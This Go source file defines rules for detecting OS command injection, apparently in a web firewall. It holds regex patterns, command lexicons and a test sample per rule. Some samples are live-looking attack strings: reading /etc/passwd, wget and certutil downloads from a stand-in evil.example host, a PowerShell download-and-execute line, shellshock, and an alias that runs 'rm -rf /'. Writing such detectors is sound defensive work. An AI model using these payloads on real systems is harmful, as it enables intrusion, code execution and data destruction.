package detect

import "strings"

// OS command injection, read in the shell-unquoted view (c'a't is cat).
// Unix commands count after a command separator; at the very start of a
// value only commands that are not also everyday words count, so that a
// search for "cat pictures" stays a search.

// unixCommands are commands worth running after an injected separator.
// "name*" is a family (python3.11, ansible-playbook).
var unixCommands = newLexicon(distinctList, everydayList)

// everydayList are commands whose names are also words or too short to
// stand alone as evidence.
const everydayList = `cat tac nl head tail more less sort uniq cut tr find locate ls dir id who w
	hostname ip ss ps top env printenv set export echo printf kill sleep ping ping6 dig host fetch lynx links
	nc ssh scp sftp ftp tftp sh dash ash fish node java cc make rm mv cp dd ln touch tar zip unzip gzip xz
	od strings at timeout time exec eval su passwd mount service shutdown reboot halt init nft docker
	puppet npm yarn gem apt yum dnf apk rpm vi vim nano emacs ed man file stat gdb history alias trap
	source jobs bg fg disown watch script screen tmux expect last finger ldd nm perf bridge route arp wall
	write mail mailx batch tee diff cmp comm join paste split fold fmt column rev yes seq shuf factor bc dc
	expr test true false which whereis type command builtin declare typeset readonly c89 c99 g++ clang
	rmt* ex rc ll wish irb jjs rview rvim view dmesg sysctl mysql psql mongo openvpn xterm valgrind`

// distinctList are commands whose names are no everyday words, safe to
// recognise anywhere a command can start.
const distinctList = `grep egrep fgrep rgrep awk gawk mawk sed xargs whoami uname ifconfig netstat pkill killall
	nslookup traceroute tracepath curl wget aria2c ncat netcat socat telnet rsync bash zsh ksh csh tcsh
	busybox python* perl* ruby* php* lua* nodejs gcc* chmod chown chgrp chattr mkdir rmdir gunzip bzip2 zstd
	zstdcat zcat bzcat xzcat bsdtar base64 xxd hexdump openssl crontab nohup sudo doas useradd usermod
	userdel groupadd umount systemctl iptables tcpdump nmap chroot kubectl crictl ansible* chef-* salt-*
	terraform pip2* pip3* pipx npx apt-get dpkg cscli visudo lsof strace ltrace readelf objdump mkfifo
	mknod shred sendmail getent lastlog lastlogin ulimit umask compgen flock cpulimit aptitude aa-*
	tclsh nsenter unshare pkexec runuser jrunscript journalctl modprobe insmod sqlite3 redis-cli
	ionice taskset setarch capsh nmcli php-fpm`

var distinctCommands = newLexicon(distinctList)

// windowsCommands are cmd.exe built-ins and tools an injection runs.
var windowsCommands = newLexicon(`dir type copy del erase move ren echo ver vol net ping tasklist
	systeminfo ipconfig whoami hostname set cd md rd attrib findstr find more start call cls tree`)

var rceRules = ruleTable{class: RCE, rules: []ruleSpec{
	{id: "rce-unix-command-after-separator", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: words("; | & ` $( <( >( {"),
		check:    func(f *forms) bool { return commandAfterSeparator(f.cmdText(), unixCommands, distinctCommands) },
		sample:   `; cat /etc/passwd`, lookAlike: `tom & jerry`},
	{id: "rce-unix-command-at-start", pl: 1, score: critical, where: tArgs | THeader | TUserAgent | TReferer, view: viewCmd,
		keywords: lexiconWords(distinctList),
		check:    func(f *forms) bool { return commandAtStart(f.cmdText(), distinctCommands) },
		sample:   `wget http://evil.example/a.sh`, lookAlike: `curling club`},
	{id: "rce-command-prefix-chain", pl: 1, score: critical, where: tArgs | THeader | TUserAgent, view: viewCmd,
		keywords: words("nohup sudo time timeout env"),
		check:    launcherChain,
		sample:   `sudo ls`, lookAlike: `time flies`},
	{id: "rce-binary-path", pl: 1, score: critical, where: tNoPath, view: viewCmd,
		keywords: words("bin/ /usr/ /tmp/ /dev/tcp /dev/udp"),
		pattern:  `(?:^|[\s;&|\x60(=<>'"])/?(?:usr/(?:local/)?)?s?bin/\w|/dev/(?:tcp|udp)/|(?:^|[\s;&|\x60(=<>])/tmp/[\w.]+\s*[;&|]|\b(?:sh|bash)\s+-[ci]\b`,
		sample:   `/bin/sh`, lookAlike: `cabin/photos`},
	{id: "rce-glob-path", pl: 1, score: critical, where: tNoPath, view: viewCmd,
		keywords: words("? * ["),
		// Both branches need a '/', which the cmd view never makes: prose
		// with a question mark is spared an expression that costs about
		// 200 us natively on a 4 KiB value it does not match.
		needs:   cSlash,
		pattern: `/[\w]*[?*\[][\w?*\[\]]*/[\w?*\[\]]+|(?:^|[\s;|&=])/?(?:[a-z?*\[\]]{1,5}/)+[a-z]*[?*\[][\w?*\[\].]*`,
		sample:  `/???/c?t /etc/passwd`, lookAlike: `is it 5*3?`},
	{id: "rce-shell-expansion", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("$( ` ${ <<< <( >( $ifs"),
		pattern:  `\w(?:\x60\x60|\$\(\)|<\(\)|>\(\))|\$\(\s*[\w/.$({]|\x60\s*[\w/.$]+[^\x60]*\x60|\$\{ifs\}|\$ifs\b|<<<|[<>]\(\s*\w|\$\{[#!]?[\w]+(?::[-=?+]|[#%/^,]{1,2})[^}]*\}|\$\{\w+\[|\$\{\s*\x60`,
		sample:   `$(id)`, lookAlike: `a sad face :-$(`},
	{id: "rce-brace-expansion", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: words("{"),
		pattern:  `\{\s*,|,\s*\}|\{[\w./$"-]+(?:,[\w./$"-]+)+\}`,
		sample:   `{cat,/etc/passwd}`, lookAlike: `{name}`},
	{id: "rce-shellshock", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("()"),
		pattern:  `\(\s*\)\s*\{`,
		sample:   `() { :; }; /bin/id`, lookAlike: `f() returns`},
	{id: "rce-variable-command", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: dollarNames(),
		pattern:  `(?:^|[;&|\x60]|&&|\|\|)\s*\$\w+(?:\s*\$\w+)+\s*(?:$|[;&|\s])|\b\w+=[^;&|\s]+(?:\s*(?:;|&&)\s*\w+=[^;&|\s]+)+\s*(?:;|&&)\s*\$\w+|(?:;|&&|\|)\s*\$\w+\s+[\w/.-]`,
		sample:   `$x $y`, lookAlike: `pay $x dollars`},
	{id: "rce-sensitive-redirect", pl: 1, score: critical, where: tNoPath, view: viewCmd,
		keywords: []string{">/", "> /", "</", "< /", ">&", "> &"},
		pattern:  `(?:^|\s)(?:\d?>>?|<)\s*/(?:etc|dev|tmp|var|proc|root|home)/|(?:^|\s)\d?>&\s*\d|>\s*&\s*/dev/`,
		sample:   `echo x > /etc/cron.d/x`, lookAlike: `ratio > /100`},
	{id: "rce-windows-tool", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: lexiconWords(windowsToolList),
		check:    func(f *forms) bool { return hasWord(f.cmdText(), windowsTools) },
		sample:   `certutil -urlcache -f http://evil.example/a.exe`, lookAlike: `powershells`},
	{id: "rce-windows-syntax", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: []string{"for /", "for %", "if exist", "if not", "if defined", "if errorlevel", "if cmdextversion", "if /i", "==", "cmd", "reg ", "reg.exe", "net ", "net.exe", "%", "set /", "call :", "start /", "sc ", ":\\", "msiexec", "regedit"},
		pattern:  `\bfor\s+/[fldr]\b|\bfor\s+%%?\w\s+in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b|\bif\s+(?:/i\s+)?(?:not\s+)?\S+\s*==|\bcmd(?:\.exe)?\s*/[ckrq]\b|\bmsiexec\s*/|\breg(?:\.exe)?\s+(?:add|query|delete|save|export)\b|\bnet(?:\.exe)?\s+(?:user|localgroup|group|share|use|view|start|stop)\b|%(?:comspec|systemroot|windir|programfiles|temp|userprofile|appdata)%|\bset\s+/[ap]\b|\bcall\s+:|\bstart\s+/(?:b|min|wait)\b|\bsc\s+(?:create|config|start|stop|query)\b|\btype\s+[a-z]:\\|[a-z]:\\windows\\|\bregedit(?:\.exe)?\s+/`,
		sample:   `cmd /c dir`, lookAlike: `cmd /help`},
	{id: "rce-windows-after-separator", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: words("& | ;"),
		check:    func(f *forms) bool { return commandAfterSeparator(f.cmdText(), windowsCommands, emptyLexicon) },
		sample:   `| dir /s`, lookAlike: `salt & pepper`},
	{id: "rce-mail-protocol", pl: 1, score: critical, where: tAll, view: viewDec,
		needs:   cBreak, // injected protocol lines, which the other views fold
		pattern: `(?i)[\r\n]\s*(?:[a-z]?\d+\s+)?(?:examine|select|fetch|uid|login|list|lsub|status|append|store|copy|capability|authenticate|helo|ehlo|mail\s+from|rcpt\s+to|data|quit|vrfy|expn|search|auth|top|retr|user|pass|dele|rset|starttls|noop)\b`,
		sample:  "INBOX\r\nA1 LOGIN admin secret", lookAlike: "Dear Bob,\r\nthanks"},
	{id: "rce-powershell", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: words("invoke- iex iwr irm new-object downloadstring downloadfile start-process -encodedcommand -enc frombase64string"),
		pattern:  `\binvoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)\b|(?:^|[;&|(]\s*)(?:iex|iwr|irm)\b|\bnew-object\s+(?:net\.webclient|system\.|-com)|\.download(?:string|file|data)\s*\(|\bstart-process\b|\s-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{16,}|\[convert\]::frombase64string`,
		sample:   `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')`, lookAlike: `invoke-me later`},
	{id: "rce-windows-conditional", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: []string{"for %", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "if %", "if not %", "if /i", "%errorlevel%"},
		pattern:  `\bfor\s+%%?\S\s+in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s|\bif\s+(?:/i\s+)?(?:not\s+)?%\w+(?::~-?\d+(?:,-?\d+)?)?%|%errorlevel%`,
		sample:   `if %errorlevel% equ 0 dir`, lookAlike: `if %s is empty`},
	{id: "rce-sqlite-dot-command", pl: 1, score: critical, where: tAll, view: viewCmd,
		keywords: []string{";.", "; ."},
		pattern:  `;\s*\.\s*(?:shell|system|databases|tables|dump|import|output|once|read|load|open|schema)\b`,
		sample:   `; .shell id`, lookAlike: `end; .shells`},
	{id: "rce-alias-definition", pl: 1, score: critical, where: tArgs, view: viewCmd,
		keywords: words("alias"),
		pattern:  `(?:^|[;&|\x60])\s*alias\s+(?:[-+]\w+\s+)*[^\s=]+=`,
		sample:   `alias ls='rm -rf /'`, lookAlike: `alias for bob`},
	// Weak signal: a command at the start with arguments that could be
	// prose ("python tutorial"). It blocks only in company.
	{id: "rce-command-name-at-start", pl: 1, score: warning, where: tArgs | THeader | TUserAgent | TReferer, view: viewCmd,
		keywords: lexiconWords(distinctList),
		check: func(f *forms) bool {
			return commandAtStartIf(f.cmdText(), distinctCommands, func(string, string) bool { return true })
		},
		sample: `python tutorial`, lookAlike: `the python tutorial`},
	{id: "rce-command-with-options", pl: 1, score: critical, where: tArgs | THeader | TUserAgent | TReferer, view: viewCmd,
		keywords: []string{" -", " /", " ~/"},
		check: func(f *forms) bool {
			return commandAtStartIf(f.cmdText(), unixCommands, func(rest, _ string) bool { return optionOrPath(rest) })
		},
		sample: `ls -la /`, lookAlike: `ping - pong`},
}}

var emptyLexicon = newLexicon()

// windowsTools are programs of a Windows system that injected commands
// reach for; their names are no ordinary words.
var windowsTools = newLexicon(windowsToolList)

const windowsToolList = `powershell pwsh certutil bitsadmin wmic mshta rundll32 regsvr32 cscript
	wscript schtasks vssadmin bcdedit bcdboot wevtutil icacls takeown forfiles diskpart ntdsutil
	tasklist taskkill systeminfo ipconfig`

// launcherChain: a value that starts with a launcher (nohup, sudo, time,
// env) and goes on to a command, separated or not ("time; visudo").
func launcherChain(f *forms) bool {
	s := strings.TrimLeft(f.cmdText(), " ")
	j := 0
	for j < len(s) && isIdentByte(s[j]) {
		j++
	}
	if !launchers.has(s[:j]) {
		return false
	}
	j = skipGap(s, j, gapSpace)
	if j < len(s) && strings.IndexByte(";&|", s[j]) >= 0 {
		j++
	}
	word, end := commandAt(s, j)
	return unixCommands.has(word) && commandEnds(s, end)
}
